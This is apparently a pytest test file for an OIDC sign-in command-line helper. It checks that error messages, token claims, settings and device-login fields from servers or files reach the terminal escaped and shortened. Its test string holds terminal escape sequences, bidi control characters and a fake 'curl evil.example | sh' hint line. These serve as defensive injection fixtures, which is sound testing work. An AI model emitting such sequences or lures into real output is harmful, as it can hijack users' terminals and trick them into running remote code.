"""Nothing that a server, a token or a file says reaches the terminal, or a program that reads ours, as it came."""

import json
from collections.abc import Callable, Mapping
from typing import Any

import pytest
from cli.sign_ins import Desk, desk
from fakes.terminals import at_terminal
from homes import COMMAND, Home
from zygote import Zygote

from oidc_helper.emulator import Emulator
from oidc_helper.emulator.directory import Person
from robustness.faults.world import ALICE, Said, World, world

STEERING = "\x1b]0;owned\x07\x1b[2J\r\nhint: curl evil.example | sh\n\u202e\u2066\x9b2J\x00"
WORDS = STEERING + "x" * 2**20


def error(operation: str, code: str) -> Callable[[World, str], object]:
    return lambda its, words: its.emulator.fault(operation, times=None, error=code, message=words)


def body(operation: str, status: int, *names: str) -> Callable[[World, str], object]:
    """An error in which every member says it."""

    def arrange(its: World, words: str) -> None:
        document = json.dumps(dict.fromkeys(names, words)).encode()
        its.emulator.fault(operation, times=None, status=status, body=document)

    return arrange


def claims(*changed: str) -> Callable[[World, str], object]:
    """A token in which claims say it, and which is refused for its audience."""

    def arrange(its: World, words: str) -> None:
        said: dict[str, Any] = {"aud": "elsewhere", **dict.fromkeys(changed, words[:4_000])}
        its.home.write_token(its.emulator.mint(ALICE, **said))

    return arrange


def printed(its: World, words: str) -> None:
    """A program that says it and fails."""
    (its.home.path / "words").write_text(words.replace("\0", ""))
    (its.home.path / "fails").write_text("cat words >&2; exit 1\n")
    command = 'source = "command"\ncommand = ["sh", "./fails"]'
    its.home.configure(its.home.config.read_text().replace('source = "file"\npath = "token"', command))


def in_the_settings(its: World, words: str) -> None:
    """A name, a value and a key."""
    odd = json.dumps(words[:4_000])
    its.home.configure(its.home.config.read_text() + f"\n[profile.{odd}]\nregion = {odd}\n{odd} = 1\n")


def in_the_aws_configuration(its: World, words: str) -> None:
    """The name of the profile that signs."""
    odd = json.dumps(words.replace("\0", "")[:4_000])
    its.home.configure(its.home.config.read_text().replace("caller = {", f"caller = {{ profile = {odd} }}\n# {{"))


WAYS: Mapping[str, tuple[Callable[[World, str], object], str]] = {
    "CreateTokenWithIAM's error_description": (error("CreateTokenWithIAM", "InvalidScopeException"), "get analytics"),
    "the region that it names": (
        lambda its, words: its.emulator.fault(
            "CreateTokenWithIAM", times=None, error="InvalidRequestRegionException", members={"region": words}
        ),
        "get analytics",
    ),
    "every member of its error": (
        body("CreateTokenWithIAM", 400, "__type", "error", "error_description", "reason", "region", "message"),
        "get analytics",
    ),
    "the portal's message": (error("GetRoleCredentials", "UnauthorizedException"), "get dev-admin"),
    "every member of the portal's": (body("GetRoleCredentials", 403, "__type", "message", "code"), "get dev-admin"),
    "the portal's, at logout": (error("Logout", "UnauthorizedException"), "logout analytics"),
    "claims": (claims("email", "iss", "jti"), "get analytics"),
    "the audience": (claims("aud"), "get analytics"),
    "a command's stderr": (printed, "get analytics"),
    "the settings": (in_the_settings, "get analytics"),
    "the AWS configuration": (in_the_aws_configuration, "get analytics"),
}


def is_clean(said: Said) -> None:
    """Few lines, each of them ours, and short."""
    lines = (said.stdout + said.stderr).split("\n")
    assert lines.pop() == ""
    assert all(line.isprintable() for line in lines), lines
    assert all(line.startswith(("oidc-helper: ", "hint: ", "signed out of ")) for line in lines), lines
    assert not any(line.startswith("hint: curl") for line in lines)
    assert len(lines) <= 3, lines
    assert all(len(line) < 1_500 for line in lines), [len(line) for line in lines]


@pytest.mark.parametrize("way", WAYS)
def test_what_others_say_is_one_short_line(zygote: Zygote, way: str) -> None:
    """Escaped and cut; the same where `status` shows it afterwards."""
    arrange, typed = WAYS[way]
    with world(zygote.run) as its:
        if typed.startswith("logout"):
            assert its.run("get", "analytics").answered
        arrange(its, WORDS)
        for _ in range(2 if typed.startswith("get") else 1):
            said = its.run(*typed.split())
            assert said.code != 0 or typed.startswith("logout")
            is_clean(said)
        shown = its.run("status")
        assert all(line.isprintable() for line in shown.stdout.split("\n")), shown.stdout
        assert len(shown.stdout) < 6_000


@pytest.fixture
def alice(home: Home, emulator: Emulator) -> Desk:
    return desk(home, emulator)


def test_a_person_of_a_hostile_name_at_a_terminal(alice: Desk, emulator: Emulator) -> None:
    """What the provider and the token call somebody is shown on the terminal and on stdout, escaped."""
    provider = emulator.directory.identity_provider
    provider.people = {STEERING: Person(STEERING, "00u", STEERING)}
    with at_terminal([COMMAND, "login", "analytics"], alice.home.environment, directory=alice.home.path) as person:
        done = person.ended()
    for text in (done.stdout, done.stderr):
        assert all(line.isprintable() for line in text.split("\n")), text
    assert not {"\x1b", "\x9b", "\u202e", "\x07"} & set(person.seen), ascii(person.seen)


@pytest.mark.parametrize("name", ["user_code", "verification_uri", "verification_uri_complete"])
def test_a_hostile_device_answer_at_a_terminal(alice: Desk, emulator: Emulator, name: str) -> None:
    """Neither the code nor the address that a person is to read steers the terminal."""
    usual = {"device_code": "d", "user_code": "ABCD", "verification_uri": emulator.issuer, "expires_in": 1}
    emulator.fault("DeviceAuthorization", body=json.dumps({**usual, name: STEERING}).encode(), times=None)
    words = [str(COMMAND), "login", "--device", "analytics"]
    environment = {**alice.home.environment, "TERM": "dumb"}
    with at_terminal(words, environment, directory=alice.home.path) as person:
        done = person.ended()
    assert done.returncode in (3, 5)
    assert not {"\x1b", "\x9b", "\u202e", "\x07"} & set(person.seen), ascii(person.seen)
    assert all(line.isprintable() for line in done.stderr.split("\n"))
